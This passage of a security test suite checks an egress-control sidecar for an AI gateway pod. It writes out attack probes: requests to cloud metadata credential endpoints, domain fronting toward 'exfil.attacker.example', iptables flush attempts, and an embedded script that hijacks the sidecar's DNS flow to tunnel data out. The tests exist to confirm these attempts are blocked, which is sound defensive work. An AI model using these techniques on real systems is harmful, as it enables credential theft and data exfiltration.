    direct = world.curl(f"http://127.0.0.1:{ADMIN_PORT}/metrics")
    assert direct.exit == 7 and direct.status == 0, direct  # connection refused (RST)
    assert "egress_sidecar" not in direct.body
    via_pod_ip = world.curl(f"http://{POD_V4}:{ADMIN_PORT}/metrics")
    _assert_refused_by_sidecar(via_pod_ip, "private_address")  # the transparent listener
    assert "egress_sidecar" not in via_pod_ip.body
    world.wait_decision(mark, reason="private_address", host=POD_V4, port=ADMIN_PORT)
    health = world.curl(f"http://127.0.0.1:{ADMIN_PORT}/healthz", uid=SIDECAR_UID)
    assert health.exit == 0 and health.status == 200, health


def test_metadata_address_blocked(world: World) -> None:
    """169.254.169.254 (no listener needed: the sidecar refuses before dialling)."""
    mark = world.mark()
    got = world.curl(f"http://{METADATA_V4}/latest/meta-data/iam/security-credentials/")
    _assert_refused_by_sidecar(got, "metadata_address")
    world.assert_refused_and_alerted(mark, "metadata_address", host=METADATA_V4, port=80)
    tls_mark = world.mark()
    tls = world.curl(f"https://{METADATA_V4}/", "-k")  # TLS, no SNI
    _assert_handshake_refused(tls)
    world.assert_refused_and_alerted(tls_mark, "metadata_address", host=METADATA_V4, port=443)
    world.assert_attacker_saw_nothing(mark)


def test_gateway_cannot_change_rules(world: World) -> None:
    """No NET_ADMIN, no way to become UID 1337: the rules stay, `--verify` says so."""
    attempts = [
        ["iptables", "-t", "filter", "-F"],
        ["iptables", "-t", "nat", "-F"],
        ["ip6tables", "-t", "filter", "-F"],
        ["iptables-legacy", "-t", "nat", "-F"],
        ["iptables", "-t", "filter", "-I", "OUTPUT", "1", "-j", "ACCEPT"],
        ["setpriv", f"--reuid={SIDECAR_UID}", "true"],
    ]
    for argv in attempts:
        proc = world.run(*argv)
        assert proc.returncode != 0, argv
        error = proc.stderr.lower()
        assert "denied" in error or "not permitted" in error, (argv, proc.stderr)
    verify = world.pod.run(*init_command(), "--verify", check=False)
    assert verify.returncode == 0, verify.stderr
    assert "verify ok" in verify.stdout


# --- found while writing these (bugs fixed in runner.py / enforcer.py meanwhile) ---


def test_tls_with_allowed_sni_and_other_host_header(world: World) -> None:
    """Domain fronting inside an allowed TLS connection: host_mismatch (S5)."""
    mark = world.mark()
    got = world.curl(
        f"https://{PROVIDER_HOST}/v1/models", "--cacert", str(world.gateway_ca),
        "-H", "Host: exfil.attacker.example",
    )  # fmt: skip
    _assert_refused_by_sidecar(got, "host_mismatch")
    world.assert_refused_and_alerted(mark, "host_mismatch", host=PROVIDER_HOST)


def test_tls_without_sni_is_refused(world: World) -> None:
    """TLS without SNI to the provider's own address, allowed Host inside: refused.

    Issue 4: no SNI is refused unless a policy entry allows that TCP destination.
    Found while writing this suite: the Host header inside TLS used to stand in.
    Issue 11: refused at the ClientHello, so the Host header is never even read.
    """
    mark = world.mark()
    headers = _gateway_headers()
    got = world.curl(
        f"https://{PROVIDER_V4}/v1/models", "-k", "-H", f"Host: {PROVIDER_HOST}", *headers
    )
    assert _received(world, headers) == [], "forwarded a TLS connection that had no SNI"
    _assert_handshake_refused(got)
    reason = world.wait_decision(mark, host=PROVIDER_V4, port=443)["reason"]
    assert reason in NO_SNI_REASONS
    world.assert_refused_and_alerted(mark, reason, host=PROVIDER_V4)


def test_sidecar_binds_ipv6_listeners(world: World) -> None:
    """The documented pod listeners include [::1]; a second sidecar (root, other ports)."""
    policy = world.work / "policy.yaml"
    args = sidecar_args(world.work, policy, world.upstream_ca, ipv6=True, port_offset=100)
    args += ["--secrets-dir", str(world.work / "secrets")]
    sidecar = sidecar_process(world.pod, world.work, args, 0)
    try:
        sidecar.start()
        listeners = sidecar.listening["listeners"]
        assert f"[::1]:{TRANSPARENT_PORT + 100}" in listeners["transparent"]
        assert f"[::1]:{DNS_PORT + 100}" in listeners["dns"]
    finally:
        sidecar.stop()


def _probe_from_kubelet(pod: Pod, url: str) -> subprocess.CompletedProcess[str]:
    """An httpGet probe or a scrape: curl from outside the pod (the internet namespace)."""
    return pod.run_net("curl", "-sS", "-m", "4", "-w", "\n%{http_code}", url, check=False)


def test_gateway_binding_admin_port_while_sidecar_is_down_cannot_answer_probes(
    world: World,
) -> None:
    """The real sidecar (admin on 0.0.0.0:15020, as the manifests run it) answers probes
    and scrapes from outside the pod; once it is down, the gateway binds 15020 (IPv4
    and IPv6) and serves a healthy /readyz, /healthz and /metrics, and no probe gets it.

    A pod of its own (same init, same sidecar), so the shared world's sidecar keeps
    running for the other tests.
    """
    policy = world.work / "policy.yaml"
    with pod_namespaces() as pod:
        assert pod.init().returncode == 0
        args = sidecar_args(world.work, policy, world.upstream_ca, ipv6=False)
        args[args.index("--admin") + 1] = f"0.0.0.0:{ADMIN_PORT}"
        args += ["--secrets-dir", str(world.work / "secrets")]
        sidecar = sidecar_process(pod, world.work, args, SIDECAR_UID)
        try:
            sidecar.start()
            for path in ("/readyz", "/healthz"):
                got = _probe_from_kubelet(pod, f"http://{POD_V4}:{ADMIN_PORT}{path}")
                assert got.stdout.endswith("\n200"), (path, got.stdout, got.stderr)
            scrape = _probe_from_kubelet(pod, f"http://{POD_V4}:{ADMIN_PORT}/metrics")
            assert "egress_sidecar" in scrape.stdout and scrape.stdout.endswith("\n200")
        finally:
            sidecar.stop()

        impostor = [*pod.as_uid(GATEWAY_UID), child_python(), "-c", IMPOSTOR_SERVER,
                    str(ADMIN_PORT)]  # fmt: skip
        with background(impostor):
            for host in (POD_V4, "[fd77::1]"):
                for path in ("/readyz", "/healthz", "/metrics"):
                    got = _probe_from_kubelet(pod, f"http://{host}:{ADMIN_PORT}{path}")
                    assert got.returncode != 0, (host, path, got.stdout)
                    assert got.stdout.endswith("\n000"), (host, path, got.stdout)
                    assert "egress_sidecar" not in got.stdout
            # While the impostor holds the port, the real sidecar cannot come back: it
            # exits saying so (config_error); the probes keep failing, the pod restarts.
            restarted = sidecar_process(pod, world.work, args, SIDECAR_UID)
            with pytest.raises(RuntimeError, match="another process holds this port"):
                restarted.start()
            restarted.stop()


# --- issue 11: every accepted connection ends with one decision line -----------------

# A DNS-over-TCP framed query for leak.ex (escaped for probes.py).
DOT_QUERY = (
    "\\x00\\x1d\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
    "\\x04leak\\x02ex\\x00\\x00\\x01\\x00\\x01"
)


def _tls_probe(world: World, host: str, port: int, sni: str, payload: str) -> dict[str, Any]:
    return world.probe("tls", host, str(port), sni, payload)


def _lines_for(world: World, mark: Mark, probe: dict[str, Any], settle: float = 3) -> list[Any]:
    """Every decision line for the probe's connection, once none has come for `settle` s
    (bounded: the connection is closed when the probe returns)."""
    client = f"{POD_V4}:{probe['local_port']}"
    deadline = time.monotonic() + 20
    seen, quiet_since = -1, time.monotonic()
    while time.monotonic() < deadline:
        found = world.decisions_since(mark, client=client)
        if len(found) != seen:
            seen, quiet_since = len(found), time.monotonic()
        elif found and time.monotonic() - quiet_since > settle:
            return found
        time.sleep(0.05)
    return world.decisions_since(mark, client=client)


def test_dns_over_tls_to_attacker_is_refused_at_the_client_hello(world: World) -> None:
    """DNS over TLS (:853) to the attacker: no handshake, one line, an alert."""
    mark = world.mark()
    probe = _tls_probe(world, ATTACKER_V4, 853, "dns.attacker.example", DOT_QUERY)
    assert probe["connected"] and not probe["handshake"], probe
    [line] = _lines_for(world, mark, probe)
    assert line["reason"] == "host_not_allowed" and line["port"] == 853, line
    assert line["host"] == "dns.attacker.example" and "ClientHello" in line["detail"]
    world.assert_refused_and_alerted(mark, "host_not_allowed", host="dns.attacker.example")
    world.assert_attacker_saw_nothing(mark)


def test_metadata_probe_over_tls_with_google_sni_is_metadata_address(world: World) -> None:
    """TLS to 169.254.169.254:443 naming metadata.google.internal: metadata_address."""
    mark = world.mark()
    request = "GET /computeMetadata/v1/ HTTP/1.1\\r\\nHost: metadata.google.internal\\r\\n\\r\\n"
    probe = _tls_probe(world, METADATA_V4, 443, "metadata.google.internal", request)
    assert not probe["handshake"], probe
    [line] = _lines_for(world, mark, probe)
    assert line["reason"] == "metadata_address" and line["decision"] == "block", line
    assert line["host"] == METADATA_V4 and "metadata.google.internal" in line["detail"]
    world.assert_refused_and_alerted(mark, "metadata_address", host=METADATA_V4, port=443)
    # The same probe in plain HTTP, the name only in Host: metadata_address too.
    plain_mark = world.mark()
    got = world.curl(f"http://{METADATA_V4}/computeMetadata/v1/",
                     "-H", "Host: metadata.google.internal")  # fmt: skip
    _assert_refused_by_sidecar(got, "metadata_address")
    world.assert_refused_and_alerted(plain_mark, "metadata_address", host=METADATA_V4, port=80)


def test_tls_without_sni_then_junk_is_refused_and_logged(world: World) -> None:
    mark = world.mark()
    probe = _tls_probe(world, ATTACKER_V4, 443, "-", "\\x00\\x01junk-after-tls\\r\\n")
    assert not probe["handshake"], probe
    [line] = _lines_for(world, mark, probe)
    assert line["reason"] in NO_SNI_REASONS and line["host"] == ATTACKER_V4, line
    world.assert_refused_and_alerted(mark, line["reason"], host=ATTACKER_V4)
    world.assert_attacker_saw_nothing(mark)


@pytest.mark.parametrize(
    ("case", "payload"),
    [("junk", "\\x00\\x1d\\x12\\x34 not http at all\\r\\n\\r\\n"), ("nothing", "-")],
)
def test_allowed_tls_without_a_request_is_logged_once(
    world: World, case: str, payload: str
) -> None:
    """Right name, right address, handshake done, then no HTTP request: one line when
    the connection ends (it used to leave no trace at all)."""
    mark = world.mark()
    received = len(world.provider.received)
    probe = _tls_probe(world, PROVIDER_V4, 443, PROVIDER_HOST, payload)
    assert probe["handshake"], probe
    [line] = _lines_for(world, mark, probe)
    assert line["reason"] == "protocol_not_allowed" and line["decision"] == "block", line
    assert line["host"] == PROVIDER_HOST and line["port"] == 443
    assert line["detail"].startswith("TLS connection ended without an HTTP request"), case
    world.assert_refused_and_alerted(mark, "protocol_not_allowed", host=PROVIDER_HOST)
    assert len(world.provider.received) == received


def test_tls_connection_with_a_request_gets_only_the_request_line(world: World) -> None:
    """No double logging: a connection that carried a request ends with that line only."""
    mark = world.mark()
    request = (
        f"GET /v1/models HTTP/1.1\\r\\nHost: {PROVIDER_HOST}\\r\\nConnection: close\\r\\n\\r\\n"
    )
    probe = _tls_probe(world, PROVIDER_V4, 443, PROVIDER_HOST, request)
    assert probe["handshake"] and "gpt-fake" in probe["reply"], probe
    lines = _lines_for(world, mark, probe)
    assert [(d["decision"], d["reason"]) for d in lines] == [("allow", "allowed")], lines


# --- issue 11: audit mode never puts the key on a would_block request ----------------


@contextlib.contextmanager
def _policy_mode(world: World, mode: str) -> Iterator[None]:
    """Reload the pod's policy in `mode`, and back to enforce afterwards (bounded waits)."""
    policy = world.work / "policy.yaml"
    original = policy.read_text()

    def load(text: str, want: str) -> None:
        after = len(world.sidecar.events)
        policy.write_text(text)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            if any(e.get("event") == "policy_loaded" and e.get("mode") == want
                   for e in world.sidecar.events[after:]):  # fmt: skip
                return
            time.sleep(0.1)
        raise AssertionError(f"the sidecar did not reload the policy in {want} mode")

    load(original.replace("mode: enforce", f"mode: {mode}"), mode)
    try:
        yield
    finally:
        load(original, "enforce")


def _no_key_in(data: bytes | str) -> None:
    text = data if isinstance(data, str) else data.decode("latin-1")
    assert PROVIDER_KEY not in text, "the provider key went out on a would_block request"
    assert GATEWAY_DUMMY_KEY not in text, "the gateway's credential was not stripped"


def _beside(world: World, headers: list[str], port: int) -> bytes:
    marker = headers[1].split(": ", 1)[1].encode()
    found = [
        seen.data for seen in world.beside_provider.seen
        if seen.kind == "request" and seen.local == f"{PROVIDER_V4}:{port}" and marker in seen.data
    ]  # fmt: skip
    assert len(found) == 1, "the request did not reach the listener (the test would pass blind)"
    return found[0]


def test_audit_mode_would_block_requests_carry_no_key(world: World) -> None:
    """Transparent, audit mode: port_not_allowed in cleartext (:80) and over TLS (:8443)
    and path_not_allowed pass as would_block, and none carries the provider key; the
    allowed control does."""
    with _policy_mode(world, "audit"):
        mark = world.mark()
        control = _gateway_headers()
        got = world.curl(f"https://{PROVIDER_HOST}/v1/models", "--cacert",
                         str(world.gateway_ca), *control)  # fmt: skip
        assert got.status == 200, got
        [allowed] = _received(world, control)
        assert allowed.headers["authorization"] == f"Bearer {PROVIDER_KEY}"  # control

        cleartext = _gateway_headers()
        got = world.curl(f"http://{PROVIDER_HOST}/v1/models", *cleartext)
        assert got.status == 200 and ATTACKER_BANNER.decode() in got.body, got  # it passed
        _no_key_in(_beside(world, cleartext, 80))

        tls_other_port = _gateway_headers()
        got = world.curl(f"https://{PROVIDER_HOST}:8443/v1/models", "--cacert",
                         str(world.gateway_ca), *tls_other_port)  # fmt: skip
        assert got.status == 200, got
        _no_key_in(_beside(world, tls_other_port, 8443))

        path = _gateway_headers()
        got = world.curl(f"https://{PROVIDER_HOST}/admin/keys", "--cacert",
                         str(world.gateway_ca), *path)  # fmt: skip
        [received] = _received(world, path)
        _no_key_in(str(received.headers))

        for port, reason in ((80, "port_not_allowed"), (8443, "port_not_allowed"),
                             (443, "path_not_allowed")):  # fmt: skip
            line = world.wait_decision(mark, port=port, reason=reason, host=PROVIDER_HOST)
            assert line["decision"] == "would_block", line
            assert line["detail"].endswith("provider key not added"), line


# --- issue 11: HTTP/2 :authority and host that disagree ------------------------------


def _h2_probe(world: World, authority: str, host_header: str) -> dict[str, Any]:
    script = Path(__file__).with_name("h2_probe.py")
    proc = world.run(str(VENV_BIN / "python"), str(script), PROVIDER_V4, "443",
                     PROVIDER_HOST, authority, host_header, uid=0)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    return dict(json.loads(proc.stdout))


def test_h2_authority_and_host_disagreeing_is_host_mismatch(world: World) -> None:
    """Domain fronting in HTTP/2 through the transparent listener: the h2 library kills
    the connection; the attempt is host_mismatch, logged once and alerted."""
    control_mark = world.mark()
    control = _h2_probe(world, PROVIDER_HOST, PROVIDER_HOST)
    assert control["alpn"] == "h2" and control["status"] == "200", control
    assert [d["reason"] for d in _lines_for(world, control_mark, control)] == ["allowed"]

    mark = world.mark()
    received = len(world.provider.received)
    probe = _h2_probe(world, PROVIDER_HOST, "exfil.attacker.example")
    assert probe["status"] is None and probe["terminated"], probe
    [line] = _lines_for(world, mark, probe)
    assert line["reason"] == "host_mismatch" and line["host"] == PROVIDER_HOST, line
    assert "exfil.attacker.example" in line["detail"] and line["mode"] == "transparent"
    world.assert_refused_and_alerted(mark, "host_mismatch", host=PROVIDER_HOST)
    assert len(world.provider.received) == received
    world.assert_attacker_saw_nothing(mark)


# --- the gateway reusing the conntrack entry of the sidecar's upstream DNS query ----------

# Reads /proc/net/udp (one network namespace: the sidecar's sockets are listed with its
# UID), makes the sidecar resolve an allowed name, then binds the source port the
# sidecar's query used, once that socket closed, and sends its own questions to the
# upstream resolver: the nat REDIRECT only sees a flow's first packet, so only the filter
# table can stop them (ESTABLISHED accepted in the reply direction only).
CONNTRACK_REUSE = r"""
import json, random, socket, struct, sys, threading, time
def hexaddr(ip, port):
    return "".join("%02X" % int(b) for b in reversed(ip.split("."))) + ":%04X" % port
want = hexaddr("10.77.0.2", 53)
def q(name, qtype=1):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    head = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    return head + labels + b"\0" + struct.pack("!HH", qtype, 1)
# Bounded, but long enough for a busy machine: polling ends once the trigger is done
# and the sidecar's port was seen, or after 20 s.
seen = set(); stop = time.monotonic() + 20; triggered = threading.Event()
def poll():
    while time.monotonic() < stop and not (triggered.is_set() and seen):
        for line in open("/proc/net/udp").read().splitlines()[1:]:
            f = line.split()
            port = int(f[1].split(":")[1], 16)
            if f[7] == "1337" and port != 15053:
                seen.add(port)
t = threading.Thread(target=poll); t.start()
time.sleep(0.2)
# trigger: a TLS ClientHello for the allowed name makes the sidecar resolve it
ctx = __import__("ssl").create_default_context(); ctx.check_hostname = False; ctx.verify_mode = 0
try:
    s = socket.create_connection(("10.77.0.2", 443), timeout=10)
    ctx.wrap_socket(s, server_hostname="api.openai.com").close()
except Exception as e:
    pass
triggered.set()
t.join()
res = {"sidecar_ports": sorted(seen), "answers": {}}
for port in sorted(seen):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
    try:
        u.bind(("0.0.0.0", port))
        u.sendto(q("exfil-" + sys.argv[1] + ".only-upstream.example"), ("10.77.0.2", 53))
        u.sendto(q("only-upstream.example"), ("10.77.0.2", 53))
        a = u.recv(512); b = u.recv(512)
        res["answers"][port] = [a[3] & 0xF, b[3] & 0xF, ".".join(str(x) for x in b[-4:])]
    except OSError as e:
        res["answers"][port] = repr(e)
    u.close()
# the channel outlives the conntrack UDP timeout (30 s): each datagram refreshes it
if seen and len(sys.argv) > 2:
    port = sorted(seen)[0]; u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
    u.bind(("0.0.0.0", port)); res["later"] = []
    for i in range(int(sys.argv[2])):
        time.sleep(12)
        u.sendto(q("later%d-%s.only-upstream.example" % (i, sys.argv[1])), ("10.77.0.2", 53))
        try: res["later"].append([round(time.monotonic() - stop, 1), u.recv(512)[3] & 0xF])
        except OSError as e: res["later"].append(repr(e))
print(json.dumps(res))
"""


def test_gateway_reusing_the_sidecars_dns_flow_cannot_reach_the_upstream_resolver(
    world: World,
) -> None:
    time.sleep(6)  # the sidecar's cached answer expires (TTL 5 s): it asks upstream again
    script = world.work / "conntrack_reuse.py"
    script.write_text(CONNTRACK_REUSE)
    before = len(world.upstream.questions)
    # The sidecar's query socket lives until the answer: a slow one keeps it in
    # /proc/net/udp long enough for the gateway's poller to see it (a fast answer was
    # missed once on a busy machine, and the control below failed).
    world.upstream.delays["api.openai.com"] = 0.5
    try:
        proc = world.run(child_python(), str(script), "c2VjcmV0", timeout=90)
    finally:
        world.upstream.delays.pop("api.openai.com", None)
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    asked = [name for name, _ in world.upstream.questions[before:]]
    assert "api.openai.com" in asked, (asked, result)  # control: the sidecar did ask upstream
    assert result["sidecar_ports"], result  # control: the gateway saw the sidecar's port
    leaked = [name for name in asked if name != "api.openai.com"]
    assert not leaked, f"the gateway reached the upstream resolver directly: {leaked}"


# --- issue 19: `egress-sidecar redteam` from the gateway's position ---------------------


def _redteam(world: World, *groups: str) -> tuple[int, dict[str, Any]]:
    """The real command, as the gateway's UID in the pod (as `kubectl debug --target`
    would run it), with the pod's resolv.conf; JSON scorecard."""
    wrapper = _interpreter_wrapper(world.work / "stage")
    resolv = 'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"'
    only = [arg for group in groups for arg in ("--group", group)]
    proc = sh(
        "ip", "netns", "exec", world.pod.pod, *wrapper,
        "unshare", "--mount", "--propagation", "private",
        "sh", "-c", resolv, "sh", str(world.work / "resolv.conf"),
        "setpriv", f"--reuid={GATEWAY_UID}", f"--regid={GATEWAY_UID}", "--clear-groups",
        str(VENV_BIN / "egress-sidecar"), "redteam", "--json", "--rate", "50",
        "--timeout", "3", "--target", ATTACKER_V4, "--target6", ATTACKER_V6, *only,
        check=False, timeout=240,
    )  # fmt: skip
    assert proc.returncode in (0, 1, 3), proc.stderr
    return proc.returncode, json.loads(proc.stdout)


@contextlib.contextmanager
def _rules_removed(world: World, *tools: str) -> Iterator[None]:
    """A broken set-up: the init container's rules missing for these families, restored
    afterwards (the rest of the module shares the pod)."""
    saved = {tool: world.pod.run(f"{tool}-save").stdout for tool in tools}
    try:
        for tool in tools:
            for table in ("nat", "filter"):
                world.pod.run(tool, "-w", "-t", table, "-F", "OUTPUT")
        yield
    finally:
        for tool, dump in saved.items():
            sh("ip", "netns", "exec", world.pod.pod, f"{tool}-restore", stdin=dump)


def test_redteam_against_a_correct_pod_reports_zero_misses(world: World) -> None:
    code, card = _redteam(world)
    probes = {p["probe"]: p for p in card["probes"]}
    assert card["missed"] == [], json.dumps([probes[n] for n in card["missed"]])
    assert code == 0, card["summary"]
    for name in ("harvest_resolved_from_the_lookalike_domain", "dns_to_an_outside_resolver"):
        assert probes[name]["outcome"] == "blocked", probes[name]
    assert probes["gateway_holding_a_real_provider_key"]["reason"] == "gateway_holds_credential"
    assert probes["imdsv1_credentials_by_address"]["reason"] == "metadata_address"


def test_redteam_finds_the_missing_init_rules(world: World) -> None:
    with _rules_removed(world, "iptables", "ip6tables"):
        code, card = _redteam(world, "direct_egress", "gateway_compromise")
    assert code == 1
    for name in ("direct_tcp_to_a_public_address", "direct_udp_to_a_public_address",
                 "harvest_posted_over_plain_http_to_lookalike_domain"):  # fmt: skip
        assert name in card["missed"], card["missed"]


def test_redteam_finds_the_missing_ipv6_rules(world: World) -> None:
    with _rules_removed(world, "ip6tables"):
        code, card = _redteam(world, "direct_egress")
    assert code == 1
    assert card["missed"] == ["direct_tcp_over_ipv6"], card["missed"]
